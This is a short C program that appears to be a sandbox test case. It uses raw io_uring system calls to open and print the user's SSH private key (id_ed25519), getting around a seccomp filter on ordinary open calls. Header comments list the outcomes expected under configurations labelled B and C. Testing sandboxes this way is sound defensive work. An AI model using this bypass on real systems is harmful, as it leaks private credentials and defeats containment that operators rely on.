// title: opens the SSH key through io_uring, past a filter of system calls
// harm: learns
// B: seccomp says that io_uring is missing; Landlock
// C: seccomp says that io_uring is missing; the home is not there
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void) {
  struct io_uring_params p = {0};
  int ring = syscall(SYS_io_uring_setup, 4, &p);
  if (ring < 0) return perror("io_uring_setup"), 1;
  char *sq = mmap(0, p.sq_off.array + p.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
  char *cq = mmap(0, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
  struct io_uring_sqe *sqe = mmap(0, p.sq_entries * sizeof *sqe, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
  char path[256], secret[128] = {0};
  snprintf(path, sizeof path, "%s/.ssh/id_ed25519", getenv("OP_HOME"));
  memset(sqe, 0, sizeof *sqe);
  sqe->opcode = IORING_OP_OPENAT;
  sqe->fd = AT_FDCWD;
  sqe->addr = (unsigned long)path;
  ((unsigned *)(sq + p.sq_off.array))[0] = 0;
  ++*(unsigned *)(sq + p.sq_off.tail);
  if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, 0, 0) < 0) return perror("io_uring_enter"), 1;
  int file = ((struct io_uring_cqe *)(cq + p.cq_off.cqes))[0].res;
  if (file < 0 || read(file, secret, 127) < 0) return fprintf(stderr, "open: %d\n", file), 1;
  puts(secret);
}
